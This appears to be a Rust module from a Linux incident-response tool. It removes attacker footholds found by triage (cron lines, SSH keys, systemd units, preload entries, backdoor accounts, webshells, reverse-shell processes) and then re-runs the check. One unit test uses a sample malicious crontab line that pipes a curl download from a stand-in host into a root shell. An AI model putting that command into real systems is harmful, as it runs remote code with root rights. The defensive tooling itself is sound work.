//! Eradication: remove exactly the foothold a triage finding names — the cron line, the systemd
//! unit, the authorized_keys line, the ld.so.preload entry, the backdoor account, the webshell —
//! then re-run the check that found it.
//!
//! What to do for each check is one table ([`remedy_for`]); adding a remedy touches only it.

use crate::engine::{LineEdit, Plan};
use crate::target::{EDIT_LIMIT, Target};
use crate::{Error, Result, step};
use firewarden_model::action::{Risk, Step};
use firewarden_model::{Finding, printable};
use firewarden_triage::TriageOptions;

/// How a finding's foothold is removed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Remedy {
    /// Remove the line the evidence names (crontabs, authorized_keys, rc files, profiles …);
    /// evidence without a line (a cron script) is quarantined instead.
    RemoveLine,
    /// Move the file the evidence names into the vault.
    Quarantine,
    /// Stop and disable a systemd unit and quarantine its file.
    SystemdUnit,
    /// Remove the library from `/etc/ld.so.preload` and quarantine the library.
    PreloadEntry,
    /// Remove a backdoor account from `/etc/passwd` and `/etc/shadow`.
    Account,
    /// End a running process (live host) after keeping its evidence, and quarantine its
    /// program when it lives outside the system directories.
    Process,
    /// Clear a file's set-uid/set-gid bits (the file stays, for analysis); a file with only
    /// dangerous capabilities is quarantined when outside the system directories.
    SetId,
}

/// Which checks' findings can be eradicated, and how.
pub const REMEDIES: &[(&str, Remedy)] = &[
    ("linux.persistence.cron", Remedy::RemoveLine),
    ("linux.ssh.authorized_keys", Remedy::RemoveLine),
    ("linux.persistence.rc", Remedy::RemoveLine),
    ("linux.persistence.shell_profile", Remedy::RemoveLine),
    ("linux.persistence.inetd", Remedy::RemoveLine),
    ("linux.persistence.udev", Remedy::RemoveLine),
    ("linux.accounts.sudo", Remedy::RemoveLine),
    ("linux.web.webshell", Remedy::Quarantine),
    // A dump left in a web root can be downloaded again: it goes, kept encrypted as evidence.
    ("linux.web.dump", Remedy::Quarantine),
    ("linux.files.malware", Remedy::Quarantine),
    ("linux.files.rootkit_paths", Remedy::Quarantine),
    ("linux.files.temp_dirs", Remedy::Quarantine),
    ("linux.persistence.at", Remedy::Quarantine),
    ("linux.persistence.autostart", Remedy::Quarantine),
    ("linux.persistence.systemd", Remedy::SystemdUnit),
    ("linux.persistence.ld_preload", Remedy::PreloadEntry),
    ("linux.accounts.uid0", Remedy::Account),
    ("linux.persistence.suid", Remedy::SetId),
    ("linux.process.miner", Remedy::Process),
    ("linux.process.reverse_shell", Remedy::Process),
    ("linux.process.suspicious_exe", Remedy::Process),
];

/// Programs under these directories are never quarantined with a process (a reverse shell
/// runs /bin/bash: the shell is ended, bash stays).
const SYSTEM_PROGRAM_DIRS: &[&str] = &["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/snap/"];

/// The remedy for a check, or `None` when it has no automatic one.
pub fn remedy_for(check: &str) -> Option<Remedy> {
    REMEDIES.iter().find(|(c, _)| *c == check).map(|(_, r)| *r)
}

/// Finds the line a finding names: the recorded line number when it still says the same,
/// else the one line that does (the file may have shifted since triage). Lines are compared
/// as triage printed them.
fn locate_line(bytes: &[u8], line: Option<u64>, excerpt: &str) -> Option<usize> {
    let lines: Vec<&[u8]> = bytes.split_inclusive(|b| *b == b'\n').collect();
    let same = |l: &[u8]| {
        let text = String::from_utf8_lossy(l);
        let p = printable(text.trim_end_matches(['\n', '\r']), 300);
        p == excerpt || (excerpt.ends_with('…') && p.starts_with(excerpt.trim_end_matches('…')))
    };
    if let Some(n) = line
        && let Some(l) = lines.get((n as usize).wrapping_sub(1))
        && same(l)
    {
        return Some(n as usize - 1);
    }
    let hits: Vec<usize> = (0..lines.len()).filter(|i| same(lines[*i])).collect();
    (hits.len() == 1).then(|| hits[0])
}

/// The bytes without line `index` (0-based) and its line ending; every other byte unchanged.
fn without_line(bytes: &[u8], index: usize) -> Vec<u8> {
    bytes
        .split_inclusive(|b| *b == b'\n')
        .enumerate()
        .filter(|(i, _)| *i != index)
        .flat_map(|(_, l)| l.iter().copied())
        .collect()
}

/// Plans the eradication of one finding.
pub fn plan(target: &Target, finding: &Finding) -> Result<Plan> {
    if finding.check == "linux.web.tampering" {
        return Err(Error::Refused(format!(
            "{}: a tampered page is the site's own file; put it back from a baseline with `firewarden recover web BASELINE`",
            finding.id
        )));
    }
    let remedy = remedy_for(&finding.check).ok_or_else(|| {
        Error::Refused(format!(
            "{}: no automatic eradication for {} findings; by hand: {}",
            finding.id, finding.check, finding.recommendation
        ))
    })?;
    let ev = finding
        .evidence
        .iter()
        .find(|e| e.path.is_some())
        .ok_or_else(|| {
            Error::Refused(format!(
                "{}: the evidence names no file (a running process?): contain it with `contain process`",
                finding.id
            ))
        })?;
    let path = ev.path.clone().unwrap_or_default();
    let mut plan = Plan::new(
        "eradicate",
        format!("Eradicate: {}", printable(&finding.title, 160)),
        Risk::Medium,
        target,
    )
    .for_finding(&finding.id, Some(finding.severity));
    match remedy {
        Remedy::RemoveLine if ev.line.is_none() => {
            plan.quarantine(target, &path)?;
        }
        Remedy::RemoveLine => {
            let excerpt = ev.excerpt.clone().unwrap_or_default();
            let (_, bytes) = target.read_file(&path, EDIT_LIMIT)?;
            let i = locate_line(&bytes, ev.line, &excerpt).ok_or_else(|| {
                Error::Drift(format!(
                    "{path}: line {} no longer says `{excerpt}` (changed since triage); run triage again",
                    ev.line.unwrap_or(0)
                ))
            })?;
            if finding.check == "linux.ssh.authorized_keys" && target.is_live() {
                refuse_own_key(&bytes, i)?;
            }
            plan.edit(target, &path, without_line(&bytes, i))?;
            cron_notices(&path, &mut plan);
        }
        Remedy::Quarantine => {
            plan.quarantine(target, &path)?;
            if [".php", ".phtml", ".php5", ".phar"]
                .iter()
                .any(|e| path.to_ascii_lowercase().ends_with(e))
            {
                plan.note("PHP's opcache may keep serving a removed script when it does not check timestamps: reload php-fpm (or the web server) once eradication is done");
            }
        }
        Remedy::SystemdUnit => systemd_unit(target, &path, &mut plan)?,
        Remedy::PreloadEntry => {
            let lib = ev.excerpt.clone().unwrap_or_default();
            let changed = plan.edit_lines(target, &path, |l| {
                let words: Vec<&str> = l
                    .split([' ', '\t', ':'])
                    .filter(|w| !w.is_empty())
                    .collect();
                if l.trim_start().starts_with('#') || !words.contains(&lib.as_str()) {
                    return LineEdit::Keep;
                }
                let rest: Vec<&str> = words.into_iter().filter(|w| *w != lib).collect();
                if rest.is_empty() {
                    LineEdit::Delete
                } else {
                    LineEdit::Replace(rest.join(" "))
                }
            })?;
            if changed == 0 {
                return Err(Error::Drift(format!("{path} no longer loads {lib}")));
            }
            if lib.starts_with('/') && target.exists(&lib) {
                plan.quarantine(target, &lib)?;
            }
            plan.note("programs already running keep the library loaded: restart them (or reboot) once eradication is done");
        }
        Remedy::Process => process_foothold(target, finding, &mut plan)?,
        Remedy::SetId => {
            let host = target.host_path(&path)?;
            let meta = std::fs::symlink_metadata(&host)
                .map_err(|e| Error::Drift(format!("{path}: {e}")))?;
            let mode = std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o7777;
            if !meta.is_file() {
                return Err(Error::Refused(format!("{path} is not a regular file")));
            }
            if mode & 0o6000 != 0 {
                plan.push(Step::Chmod {
                    path: path.clone(),
                    before: mode,
                    after: mode & !0o6000,
                });
            } else if !SYSTEM_PROGRAM_DIRS.iter().any(|d| path.starts_with(d)) {
                plan.quarantine(target, &path)?;
            } else {
                return Err(Error::Refused(format!(
                    "{path}: its file capabilities must be removed by hand (setcap -r), after keeping a copy"
                )));
            }
        }
        Remedy::Account => {
            plan.action.risk = Risk::High;
            let name = ev
                .excerpt
                .as_deref()
                .and_then(|e| e.split(':').next())
                .filter(|n| !n.is_empty() && *n != "root")
                .ok_or_else(|| {
                    Error::Refused(format!("{}: no account name in the evidence", finding.id))
                })?
                .to_string();
            for file in ["/etc/passwd", "/etc/shadow"] {
                if target.exists(file) {
                    plan.edit_lines(target, file, |l| {
                        if l.split(':').next() == Some(name.as_str()) {
                            LineEdit::Delete
                        } else {
                            LineEdit::Keep
                        }
                    })?;
                }
            }
            if plan.is_empty() {
                return Err(Error::Drift(format!("account `{name}` is gone already")));
            }
            plan.note(format!(
                "processes already running as `{name}` keep running: end them with `contain process` or `contain account` first"
            ));
        }
    }
    Ok(plan)
}

/// Ends the process a finding names, after checking the pid still runs what triage saw.
fn process_foothold(target: &Target, finding: &Finding, plan: &mut Plan) -> Result<()> {
    if !target.is_live() {
        return Err(Error::Refused(format!(
            "{}: a running process can only be ended on the live host",
            finding.id
        )));
    }
    let ev = finding
        .evidence
        .iter()
        .find(|e| e.pid.is_some())
        .ok_or_else(|| Error::Refused(format!("{}: no process in the evidence", finding.id)))?;
    let pid = ev.pid.unwrap_or_default();
    let seen_exe = ev
        .excerpt
        .as_deref()
        .and_then(|x| x.rsplit_once("[exe ").map(|(_, r)| r))
        .and_then(|r| r.split_once(']').map(|(e, _)| e.to_string()));
    let now_exe = std::fs::read_link(format!("/proc/{pid}/exe"))
        .map(|l| l.to_string_lossy().into_owned())
        .map_err(|_| Error::Drift(format!("process {pid} is gone already")))?;
    if let Some(seen) = &seen_exe
        && seen != "-"
        && now_exe != *seen
        && now_exe.trim_end_matches(" (deleted)") != seen.trim_end_matches(" (deleted)")
    {
        return Err(Error::Drift(format!(
            "pid {pid} now runs {now_exe}, not {seen}: the process ended and the pid was reused"
        )));
    }
    plan.action.risk = Risk::High;
    let p = crate::contain::capture_process(plan, pid)?;
    plan.push(Step::Kill { process: p });
    let program = now_exe.trim_end_matches(" (deleted)");
    if program.starts_with('/')
        && !now_exe.ends_with(" (deleted)")
        && !SYSTEM_PROGRAM_DIRS.iter().any(|d| program.starts_with(d))
        && target.exists(program)
    {
        plan.quarantine(target, program)?;
    }
    plan.note("an ended process cannot be brought back by undo; its evidence (executable, maps, open files) is in the vault");
    Ok(())
}

/// Where system units live (stopped through the system manager).
pub(crate) const SYSTEM_UNIT_DIRS: &[&str] = &[
    "/etc/systemd/system",
    "/run/systemd/system",
    "/lib/systemd/system",
    "/usr/lib/systemd/system",
];

/// Refuses to remove the key this responder's SSH session logged in with.
fn refuse_own_key(bytes: &[u8], index: usize) -> Result<()> {
    let line = bytes
        .split(|b| *b == b'\n')
        .nth(index)
        .map(String::from_utf8_lossy)
        .unwrap_or_default();
    if let (Some(key), Some(own)) = (
        crate::session::key_fingerprint(&line),
        crate::session::own_key_fingerprint(),
    ) && key == own
    {
        return Err(Error::Refused(format!(
            "this is the key your own SSH session logged in with ({own}); removing it would lock you out. Remove it by hand once you have another way in"
        )));
    }
    Ok(())
}

/// Cron (Debian's vixie cron) re-reads a user's crontab only when its spool directory's mtime
/// changes, which an in-place edit does not do: touch it, as `crontab -e` would.
fn cron_notices(path: &str, plan: &mut Plan) {
    if let Some((dir, _)) = path.rsplit_once('/')
        && (dir.starts_with("/var/spool/cron") || dir == "/etc/cron.d")
    {
        plan.push(Step::TouchDir {
            path: dir.to_string(),
        });
    }
}

/// Stop (live), disable (remove the `wants`/`requires` links) and quarantine a unit file. A
/// finding on one of the unit's links is followed to the unit itself (inside the root).
fn systemd_unit(target: &Target, path: &str, plan: &mut Plan) -> Result<()> {
    let mut path = path.to_string();
    for _ in 0..8 {
        let Ok(link) = std::fs::read_link(target.host_path(&path)?) else {
            break;
        };
        let link = link.to_string_lossy().into_owned();
        path = if link.starts_with('/') {
            link
        } else {
            format!("{}/{link}", path.rsplit_once('/').map_or("", |(d, _)| d))
        };
    }
    let path = path.as_str();
    if !target.exists(path) {
        return Err(Error::Drift(format!("{path} is gone already")));
    }
    let unit = path.rsplit('/').next().unwrap_or_default().to_string();
    let system_unit = SYSTEM_UNIT_DIRS
        .iter()
        .any(|d| path.starts_with(&format!("{d}/")));
    let managed = target.is_live() && step::systemd_running() && system_unit;
    if managed {
        plan.push(Step::StopUnit {
            unit: unit.clone(),
            was_active: step::unit_active(&unit),
        });
    } else if system_unit {
        plan.note("not a running systemd host: the unit is disabled and removed, not stopped");
    }
    for base in SYSTEM_UNIT_DIRS {
        let Ok(host) = target.host_path(base) else {
            continue;
        };
        let Ok(dirs) = std::fs::read_dir(&host) else {
            continue;
        };
        let mut links = Vec::new();
        for d in dirs.flatten() {
            let name = d.file_name().to_string_lossy().into_owned();
            if !(name.ends_with(".wants") || name.ends_with(".requires")) {
                continue;
            }
            let link = format!("{base}/{name}/{unit}");
            if let Ok(h) = target.host_path(&link)
                && let Ok(to) = std::fs::read_link(&h)
            {
                links.push((link, to.to_string_lossy().into_owned()));
            }
        }
        links.sort();
        for (link, to) in links {
            plan.push(Step::Unlink {
                parent_times: target.parent_times(&link),
                path: link,
                target: to,
            });
        }
    }
    plan.quarantine(target, path)?;
    if managed {
        plan.push(Step::ReloadSystemd);
    } else if system_unit {
        plan.note("systemd forgets the unit at its next daemon-reload or boot");
    } else {
        plan.note("a user unit: stop it in that user's manager (systemctl --user) or end the user's sessions");
    }
    Ok(())
}

/// Re-runs the check behind a finding on the target: `Ok(true)` when the finding is gone.
/// The detail says how many findings the check still reports.
pub fn recheck(target: &Target, finding: &Finding) -> (bool, String) {
    let opts = TriageOptions {
        only: vec![finding.check.clone()],
        min_severity: firewarden_model::Severity::Info,
        threads: 1,
        ..TriageOptions::default()
    };
    let report = firewarden_triage::run(target.source(), &opts, &|_| {});
    let gone = !report.findings.iter().any(|f| f.id == finding.id);
    let others = report.findings.len();
    let detail = if gone {
        format!(
            "{} re-run: finding gone ({others} other finding(s) from this check remain)",
            finding.check
        )
    } else {
        format!("{} re-run: the finding is STILL reported", finding.check)
    };
    (gone, detail)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn locates_lines_that_moved() {
        let text = b"# m h dom\n*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
        assert_eq!(
            locate_line(text, Some(2), "*/5 * * * * root curl -s http://x | sh"),
            Some(1)
        );
        // The first line was removed since triage: the line moved up.
        let moved = b"*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
        assert_eq!(
            locate_line(moved, Some(2), "*/5 * * * * root curl -s http://x | sh"),
            Some(0)
        );
        assert_eq!(locate_line(moved, Some(2), "not there"), None);
        // Two identical lines: ambiguous unless the recorded line number matches.
        let twice = b"a\na\n";
        assert_eq!(locate_line(twice, None, "a"), None);
        assert_eq!(locate_line(twice, Some(2), "a"), Some(1));
    }

    #[test]
    fn removes_exactly_one_line_keeping_the_rest_byte_for_byte() {
        let text = b"one\r\ntw\xffo\nthree";
        assert_eq!(without_line(text, 1), b"one\r\nthree");
        assert_eq!(without_line(text, 2), b"one\r\ntw\xffo\n");
    }

    #[test]
    fn every_remedy_names_a_real_check() {
        let ids: Vec<&str> = firewarden_triage::catalogue()
            .iter()
            .map(|c| c.meta.id)
            .collect();
        for (check, _) in REMEDIES {
            assert!(ids.contains(check), "{check} is not in the catalogue");
        }
    }
}
